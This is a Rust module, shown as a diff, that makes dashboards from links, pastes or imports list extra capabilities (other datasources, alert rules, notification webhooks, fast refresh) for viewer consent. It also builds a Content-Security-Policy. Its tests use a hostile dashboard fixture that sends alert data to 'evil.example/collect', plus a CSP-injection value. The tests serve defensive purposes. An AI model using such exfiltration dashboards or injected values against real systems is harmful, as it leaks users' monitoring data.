@@ -1,0 +1,509 @@
+//! What a dashboard from outside may do before the person looking at it agrees.
+//!
+//! A dashboard in a link, a paste, a file or a Grafana import was written by
+//! someone else. Drawing its panels from the datasource the viewer already
+//! uses is harmless; anything beyond that is listed for the viewer to accept
+//! first: reading another datasource, evaluating alert rules, sending
+//! notifications anywhere, refreshing faster than a safe floor. Nothing
+//! leaves the browser for an address whose origin the viewer has not
+//! confirmed once ([`ConfirmedOrigins`], kept in this browser). Dashboards
+//! shipped with the page or saved in this browser are trusted: their author is
+//! the person who hosts the page or the viewer.
+
+use crate::foundation::json::{DecodeError, FromJson, Json, ObjectReader, ObjectWriter, ToJson};
+use crate::foundation::limits::{
+    MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS, MIN_UNREVIEWED_REFRESH_SECONDS,
+};
+use crate::foundation::ordered::SortedSet;
+use crate::model::dashboard::Dashboard;
+use crate::model::datasource::Datasource;
+use crate::model::refresh::parse_refresh;
+use crate::model::url_state::DashboardRef;
+
+/// Where the dashboard on screen came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Provenance {
+    /// Shipped with the page (`public/dashboards/`): written by whoever hosts it.
+    Shipped,
+    /// Saved in this browser by its user.
+    Saved,
+    /// Carried in a link (`inline=`).
+    Link,
+    /// Pasted, opened from a file, or imported from Grafana, not yet saved.
+    Import,
+}
+
+impl Provenance {
+    pub fn of(dashboard: &DashboardRef) -> Self {
+        match dashboard {
+            DashboardRef::Shipped(_) => Self::Shipped,
+            DashboardRef::Saved(_) => Self::Saved,
+            DashboardRef::Inline(_) => Self::Link,
+        }
+    }
+
+    pub fn is_trusted(self) -> bool {
+        matches!(self, Self::Shipped | Self::Saved)
+    }
+
+    fn key_part(self) -> &'static str {
+        match self {
+            Self::Shipped => "shipped",
+            Self::Saved => "saved",
+            Self::Link => "link",
+            Self::Import => "import",
+        }
+    }
+}
+
+/// Origins (`scheme://host:port`) the user confirmed, kept in this browser.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct ConfirmedOrigins {
+    pub datasources: SortedSet<String>,
+    pub notification_targets: SortedSet<String>,
+}
+
+impl FromJson for ConfirmedOrigins {
+    fn from_json(value: &Json) -> Result<Self, DecodeError> {
+        let reader = ObjectReader::new(value)?;
+        let datasources: Vec<String> = reader.or_default("datasources")?;
+        let targets: Vec<String> = reader.or_default("notificationTargets")?;
+        Ok(Self {
+            datasources: datasources.into_iter().collect(),
+            notification_targets: targets.into_iter().collect(),
+        })
+    }
+}
+
+impl ToJson for ConfirmedOrigins {
+    fn to_json(&self) -> Json {
+        let datasources: Vec<String> = self.datasources.iter().cloned().collect();
+        let targets: Vec<String> = self.notification_targets.iter().cloned().collect();
+        ObjectWriter::new()
+            .member("datasources", &datasources)
+            .member("notificationTargets", &targets)
+            .finish()
+    }
+}
+
+/// The origin of an address, or `None` when it is not an http(s) URL without
+/// user-info (such an address is never contacted).
+pub fn origin_of(address: &str) -> Option<String> {
+    Datasource::parse(address).ok().map(|d| d.origin())
+}
+
+/// The host part of an origin (`http://127.0.0.1:9090` → `127.0.0.1`).
+fn host_of(origin: &str) -> Option<String> {
+    url::Url::parse(origin).ok()?.host_str().map(str::to_string)
+}
+
+/// What the page is and where it runs, for the decisions below.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PageContext {
+    /// The page's own origin (`http://127.0.0.1:8080`).
+    pub page_origin: String,
+    /// The datasource used when nothing else is chosen.
+    pub default_datasource: Datasource,
+}
+
+impl ConfirmedOrigins {
+    /// Whether the page may query `datasource` without asking: the default
+    /// one, one on the page's own host (Prometheus serving the page, or the
+    /// demo on loopback), or one confirmed before.
+    pub fn permits_datasource(&self, page: &PageContext, datasource: &Datasource) -> bool {
+        let origin = datasource.origin();
+        origin == page.default_datasource.origin()
+            || host_of(&origin).is_some_and(|host| host_of(&page.page_origin) == Some(host))
+            || self.datasources.contains(&origin)
+    }
+
+    /// Whether alerts may be sent to `address`. Only an origin the user
+    /// confirmed qualifies: a notification carries series labels and values
+    /// out of the browser.
+    pub fn permits_notification(&self, address: &str) -> bool {
+        origin_of(address).is_some_and(|origin| self.notification_targets.contains(&origin))
+    }
+
+    /// The Content-Security-Policy `connect-src` sources for this page: its
+    /// own origin, any port of its own host, the default datasource and every
+    /// confirmed origin.
+    pub fn connect_sources(&self, page: &PageContext) -> Vec<String> {
+        let mut sources: SortedSet<String> = SortedSet::new();
+        sources.insert("'self'".to_string());
+        if let (Some((scheme, _)), Some(host)) = (
+            page.page_origin.split_once("://"),
+            host_of(&page.page_origin),
+        ) {
+            sources.insert(format!("{scheme}://{host}:*"));
+        }
+        sources.insert(page.default_datasource.origin());
+        sources.extend(self.datasources.iter().cloned());
+        sources.extend(self.notification_targets.iter().cloned());
+        sources
+            .into_iter()
+            .filter(|s| {
+                s.chars()
+                    .all(|c| c.is_ascii_graphic() && c != ';' && c != ',')
+            })
+            .collect()
+    }
+}
+
+/// The policy the page adds to its own once it knows where it may connect
+/// (a second policy can only narrow the static one in `index.html`).
+pub fn connect_policy(confirmed: &ConfirmedOrigins, page: &PageContext) -> String {
+    format!("connect-src {}", confirmed.connect_sources(page).join(" "))
+}
+
+/// One thing a dashboard from outside would do beyond drawing its panels.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Capability {
+    /// Read from a datasource other than the one in use.
+    Datasource { address: String, origin: String },
+    /// Evaluate alert rules in this tab.
+    AlertRules { names: Vec<String> },
+    /// Send notifications (Alertmanager or a webhook) to an address.
+    Notify { address: String, origin: String },
+    /// Refresh more often than [`MIN_UNREVIEWED_REFRESH_SECONDS`].
+    FastRefresh { seconds: u32 },
+    /// Evaluate a rule more often than [`MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS`].
+    FastAlertInterval { rule: String, seconds: f64 },
+}
+
+impl Capability {
+    /// A sentence for the banner.
+    pub fn describe(&self) -> String {
+        match self {
+            Self::Datasource { address, .. } => format!("read its data from {address} instead of your current datasource"),
+            Self::AlertRules { names } => format!(
+                "evaluate {} alert rule{} in this tab ({})",
+                names.len(),
+                if names.len() == 1 { "" } else { "s" },
+                names.iter().take(5).cloned().collect::<Vec<_>>().join(", ")
+            ),
+            Self::Notify { address, .. } => format!(
+                "send firing alerts, with their labels and values, to {address}"
+            ),
+            Self::FastRefresh { seconds } => format!(
+                "refresh every {seconds} s (without your consent: every {MIN_UNREVIEWED_REFRESH_SECONDS} s at most)"
+            ),
+            Self::FastAlertInterval { rule, seconds } => format!(
+                "evaluate rule {rule:?} every {seconds} s"
+            ),
+        }
+    }
+}
+
+/// What a dashboard (and the link that opened it) would do that the viewer
+/// has not agreed to. Empty for a trusted dashboard whose link names no
+/// unconfirmed datasource.
+pub fn review(
+    provenance: Provenance,
+    dashboard: &Dashboard,
+    link_datasource: Option<&Datasource>,
+    link_refresh: Option<&str>,
+    confirmed: &ConfirmedOrigins,
+    page: &PageContext,
+) -> Vec<Capability> {
+    let mut asks = Vec::new();
+    let dashboard_datasource = if provenance.is_trusted() {
+        None // its author chose it: the host, or the viewer
+    } else {
+        dashboard
+            .datasource
+            .as_deref()
+            .and_then(|d| Datasource::parse(d).ok())
+    };
+    for datasource in link_datasource
+        .into_iter()
+        .chain(dashboard_datasource.as_ref())
+    {
+        let asked = asks.iter().any(|a| matches!(a, Capability::Datasource { origin, .. } if *origin == datasource.origin()));
+        if !asked && !confirmed.permits_datasource(page, datasource) {
+            asks.push(Capability::Datasource {
+                address: datasource.to_string(),
+                origin: datasource.origin(),
+            });
+        }
+    }
+    if !provenance.is_trusted() {
+        if !dashboard.alerts.is_empty() {
+            asks.push(Capability::AlertRules {
+                names: dashboard.alerts.iter().map(|r| r.name.clone()).collect(),
+            });
+            for rule in &dashboard.alerts {
+                let seconds = rule.interval_seconds().unwrap_or(60.0);
+                if seconds < MIN_UNREVIEWED_ALERT_INTERVAL_SECONDS {
+                    asks.push(Capability::FastAlertInterval {
+                        rule: rule.name.clone(),
+                        seconds,
+                    });
+                }
+            }
+        }
+        if let Some(seconds) =
+            parse_refresh(&dashboard.refresh).filter(|&s| s < MIN_UNREVIEWED_REFRESH_SECONDS)
+        {
+            asks.push(Capability::FastRefresh { seconds });
+        }
+    }
+    if let Some(seconds) = link_refresh
+        .and_then(parse_refresh)
+        .filter(|&s| s < MIN_UNREVIEWED_REFRESH_SECONDS)
+    {
+        if !asks
+            .iter()
+            .any(|a| matches!(a, Capability::FastRefresh { .. }))
+        {
+            asks.push(Capability::FastRefresh { seconds });
+        }
+    }
+    for address in dashboard
+        .notify
+        .alertmanager
+        .iter()
+        .chain(&dashboard.notify.webhooks)
+    {
+        if confirmed.permits_notification(address) {
+            continue;
+        }
+        // An address that is not an http(s) URL is never contacted, so not asked about.
+        if let Some(origin) = origin_of(address) {
+            asks.push(Capability::Notify {
+                address: address.clone(),
+                origin,
+            });
+        }
+    }
+    asks
+}
+
+/// The origins accepting `asks` confirms.
+pub fn confirm(confirmed: &mut ConfirmedOrigins, asks: &[Capability]) {
+    for ask in asks {
+        match ask {
+            Capability::Datasource { origin, .. } => {
+                confirmed.datasources.insert(origin.clone());
+            }
+            Capability::Notify { origin, .. } => {
+                confirmed.notification_targets.insert(origin.clone());
+            }
+            _ => {}
+        }
+    }
+}
+
+/// The dashboard as it may run without the viewer's consent: no alert rules
+/// evaluated, no notification targets, its own datasource ignored, and a
+/// refresh no faster than the floor. What it draws is otherwise unchanged.
+pub fn inert(dashboard: &Dashboard) -> Dashboard {
+    let mut inert = dashboard.clone();
+    inert.alerts.clear();
+    inert.notify.alertmanager = None;
+    inert.notify.webhooks.clear();
+    inert.datasource = None;
+    if parse_refresh(&inert.refresh).is_some_and(|s| s < MIN_UNREVIEWED_REFRESH_SECONDS) {
+        inert.refresh = format!("{MIN_UNREVIEWED_REFRESH_SECONDS}s");
+    }
+    inert
+}
+
+/// A link's refresh as it may run without consent: no faster than the floor.
+pub fn bounded_refresh(refresh: &str) -> String {
+    match parse_refresh(refresh) {
+        Some(seconds) if seconds < MIN_UNREVIEWED_REFRESH_SECONDS => {
+            format!("{MIN_UNREVIEWED_REFRESH_SECONDS}s")
+        }
+        _ => refresh.to_string(),
+    }
+}
+
+/// 64-bit FNV-1a: a stable fingerprint (not a secret) for storage keys.
+pub fn fingerprint(text: &str) -> String {
+    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
+    for byte in text.bytes() {
+        hash ^= u64::from(byte);
+        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
+    }
+    format!("{hash:016x}")
+}
+
+/// The key under which a dashboard's alert state, history, silences and
+/// evaluation lock live: where it came from, its id, and a fingerprint of its
+/// rules. A link with the id of a saved dashboard gets a key of its own, so it
+/// can neither read nor overwrite that dashboard's alert state.
+pub fn alert_state_namespace(provenance: Provenance, dashboard: &Dashboard) -> String {
+    let rules: Vec<Json> = dashboard.alerts.iter().map(ToJson::to_json).collect();
+    let fingerprint = fingerprint(&Json::Array(rules).to_string());
+    format!("{}.{}.{fingerprint}", provenance.key_part(), dashboard.id)
+}
+
+/// A fingerprint of a whole dashboard, to remember in this tab that the viewer
+/// accepted it.
+pub fn dashboard_fingerprint(dashboard: &Dashboard) -> String {
+    fingerprint(&ToJson::to_json(dashboard).to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HOSTILE: &str = r#"{"schemaVersion": 1, "id": "service-health", "title": "Looks harmless",
+        "refresh": "1s", "datasource": "https://evil.example/prom",
+        "panels": [{"id": "p", "title": "P", "type": "timeseries", "targets": [{"expr": "up"}]}],
+        "layout": [{"panel": "p", "x": 0, "y": 0, "w": 24, "h": 8}],
+        "alerts": [{"name": "Leak", "expr": "up", "condition": {"kind": "threshold", "op": ">", "value": -1}, "interval": "1s"}],
+        "notify": {"webhooks": ["https://evil.example/collect"], "alertmanager": "http://am.example:9093"}}"#;
+
+    fn page() -> PageContext {
+        PageContext {
+            page_origin: "http://127.0.0.1:8080".into(),
+            default_datasource: Datasource::parse("http://127.0.0.1:9090").unwrap(),
+        }
+    }
+
+    fn hostile() -> Dashboard {
+        Dashboard::from_json(HOSTILE).unwrap()
+    }
+
+    #[test]
+    fn a_link_lists_everything_beyond_drawing() {
+        let asks = review(
+            Provenance::Link,
+            &hostile(),
+            None,
+            None,
+            &ConfirmedOrigins::default(),
+            &page(),
+        );
+        let described: Vec<String> = asks.iter().map(Capability::describe).collect();
+        assert_eq!(asks.len(), 6, "{described:#?}");
+        assert!(
+            matches!(&asks[0], Capability::Datasource { origin, .. } if origin == "https://evil.example")
+        );
+        assert!(described.iter().any(
+            |d| d.contains("send firing alerts") && d.contains("https://evil.example/collect")
+        ));
+        assert!(described
+            .iter()
+            .any(|d| d.contains("http://am.example:9093")));
+        assert!(described.iter().any(|d| d.contains("refresh every 1 s")));
+        assert!(described
+            .iter()
+            .any(|d| d.contains("rule \"Leak\" every 1 s")));
+    }
+
+    #[test]
+    fn accepting_confirms_origins_and_a_trusted_dashboard_asks_nothing_more() {
+        let mut confirmed = ConfirmedOrigins::default();
+        let asks = review(
+            Provenance::Link,
+            &hostile(),
+            None,
+            None,
+            &confirmed,
+            &page(),
+        );
+        confirm(&mut confirmed, &asks);
+        assert!(confirmed.permits_notification("https://evil.example/other-path"));
+        assert!(confirmed.permits_notification("http://am.example:9093/api/v2/alerts"));
+        assert!(!confirmed.permits_notification("https://evil.example:444/collect"));
+        let saved = review(
+            Provenance::Saved,
+            &hostile(),
+            None,
+            None,
+            &confirmed,
+            &page(),
+        );
+        assert_eq!(saved, vec![]);
+        let round_trip: ConfirmedOrigins =
+            crate::foundation::json::decode(&confirmed.to_json().to_string()).unwrap();
+        assert_eq!(round_trip, confirmed);
+    }
+
+    #[test]
+    fn trusted_dashboards_still_ask_for_unconfirmed_targets_and_link_datasources() {
+        let confirmed = ConfirmedOrigins::default();
+        let asks = review(
+            Provenance::Saved,
+            &hostile(),
+            None,
+            Some("1s"),
+            &confirmed,
+            &page(),
+        );
+        assert_eq!(asks.len(), 3, "{asks:?}"); // two notification targets and the link's refresh
+        let other = Datasource::parse("http://localhost:9090").unwrap();
+        let asks = review(
+            Provenance::Shipped,
+            &Dashboard::from_json(&HOSTILE.replace("\"notify\"", "\"x\"")).unwrap(),
+            Some(&other),
+            None,
+            &confirmed,
+            &page(),
+        );
+        assert!(
+            matches!(&asks[..], [Capability::Datasource { origin, .. }] if origin == "http://localhost:9090")
+        );
+        // The page's own host on any port, and the default, need no confirmation.
+        for same in ["http://127.0.0.1:9090", "http://127.0.0.1:41234/prom"] {
+            assert!(
+                confirmed.permits_datasource(&page(), &Datasource::parse(same).unwrap()),
+                "{same}"
+            );
+        }
+    }
+
+    #[test]
+    fn an_inert_dashboard_draws_the_same_and_does_nothing_else() {
+        let inert = inert(&hostile());
+        assert_eq!(inert.panels, hostile().panels);
+        assert!(inert.alerts.is_empty() && inert.notify.is_empty() && inert.datasource.is_none());
+        assert_eq!(inert.refresh, "5s");
+        assert_eq!(
+            review(
+                Provenance::Link,
+                &inert,
+                None,
+                None,
+                &ConfirmedOrigins::default(),
+                &page()
+            ),
+            vec![]
+        );
+        assert_eq!(bounded_refresh("1s"), "5s");
+        assert_eq!(bounded_refresh("5s"), "5s");
+        assert_eq!(bounded_refresh("30s"), "30s");
+        assert_eq!(bounded_refresh("off"), "off");
+    }
+
+    #[test]
+    fn a_link_cannot_share_a_saved_dashboards_alert_state() {
+        let dashboard = hostile();
+        let saved = alert_state_namespace(Provenance::Saved, &dashboard);
+        let linked = alert_state_namespace(Provenance::Link, &dashboard);
+        assert_ne!(saved, linked);
+        assert!(saved.starts_with("saved.service-health."));
+        let mut other_rules = dashboard.clone();
+        other_rules.alerts[0].expr = "down".into();
+        assert_ne!(
+            alert_state_namespace(Provenance::Saved, &other_rules),
+            saved
+        );
+        assert_eq!(fingerprint(""), "cbf29ce484222325");
+    }
+
+    #[test]
+    fn the_policy_lists_only_plain_origins() {
+        let mut confirmed = ConfirmedOrigins::default();
+        confirmed.datasources.insert("https://prom.example".into());
+        confirmed
+            .notification_targets
+            .insert("https://hooks.example; script-src *".into());
+        assert_eq!(
+            connect_policy(&confirmed, &page()),
+            "connect-src 'self' http://127.0.0.1:* http://127.0.0.1:9090 https://prom.example"
+        );
+    }
+}
